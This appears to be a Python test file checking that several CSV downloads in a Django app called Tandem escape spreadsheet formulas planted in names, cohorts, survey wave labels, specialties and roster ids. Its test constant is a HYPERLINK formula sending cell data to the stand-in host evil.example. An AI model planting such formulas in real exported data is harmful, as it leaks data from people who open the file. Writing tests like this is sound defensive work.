"""Someone who can name a thing (their own name, a cohort, a wave, a specialty, a roster id)
plants a spreadsheet formula; every CSV Tandem hands out writes it as text, quote first."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

from django.urls import reverse
from django.utils import timezone

from tandem.engine.cli import match_main
from tandem.partnerships.models import Partnership
from tandem.programs.models import Profile
from tandem.surveys import services as survey_services
from tests.research.helpers import crowd, protocol_for
from tests.surveys.builders import cast_survey

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DEFUSED = "'" + FORMULA


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_defused(text: str) -> None:
    found = cells(text)
    assert DEFUSED in found
    assert FORMULA not in found


def test_a_members_name_in_the_checkin_list_download(cast, client_for):
    cast.alice.full_name = FORMULA
    cast.alice.save()
    Partnership.objects.filter(pk=cast.partnership.pk).update(
        activated_at=timezone.now() - dt.timedelta(days=90)
    )
    url = reverse("insights:cohort_csv", args=[cast.program.slug, cast.cohort.slug])
    text = client_for(cast.coord).get(url, {"table": "checkins", "weeks": 1}).content.decode()
    assert any(cell.startswith("'=HYPERLINK") for cell in cells(text))
    assert not any(cell.startswith("=") for cell in cells(text))


def test_a_cohort_name_in_the_program_dashboard_download(cast, client_for):
    cast.cohort.name = FORMULA
    cast.cohort.save()
    url = reverse("insights:program_csv", args=[cast.program.slug])
    for table in ("funnel", "goals"):
        assert_defused(client_for(cast.coord).get(url, {"table": table}).content.decode())


def test_a_wave_label_in_the_survey_downloads(cast, client_for):
    survey = cast_survey(cast)
    wave = survey.waves.order_by("offset_months").first()
    survey_services.wave_update(
        wave=wave, label=FORMULA, opens_on=wave.opens_on, closes_on=wave.closes_on
    )
    url = reverse("surveys:chart_csv", args=[cast.program.slug, survey.pk])
    for chart in ("rates", "scores", "change"):
        assert_defused(client_for(cast.coord).get(url, {"chart": chart}).content.decode())


def test_a_specialty_in_the_research_export(cast, client_for):
    people = crowd(cast.cohort, [("PGY1", FORMULA, "Riverside")] * 12)
    protocol_for(cast.cohort)
    Profile.objects.filter(user__in=people).update(specialty=FORMULA)
    url = reverse("research:export_download", args=[cast.program.slug, cast.cohort.slug])
    response = client_for(cast.rhea).get(url, {"format": "csv"})
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert_defused(archive.read("dataset.csv").decode())


def test_ones_own_name_in_the_personal_data_download(cast, client_for):
    cast.alice.full_name = FORMULA
    cast.alice.save()
    response = client_for(cast.alice).post(reverse("privacy:download"), {"format": "zip"})
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert_defused(archive.read("account.csv").decode())


def test_a_roster_id_in_the_offline_match_result(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(
        'id,stage,offers,seeks\n"=1+1",PGY2,research,grants\nb,PGY2,grants,research\n',
        encoding="utf-8",
    )
    out = tmp_path / "result.csv"
    assert match_main([str(roster), "--out", str(out)], out=io.StringIO()) == 0
    found = cells(out.read_text(encoding="utf-8"))
    assert "'=1+1" in found
    assert "=1+1" not in found
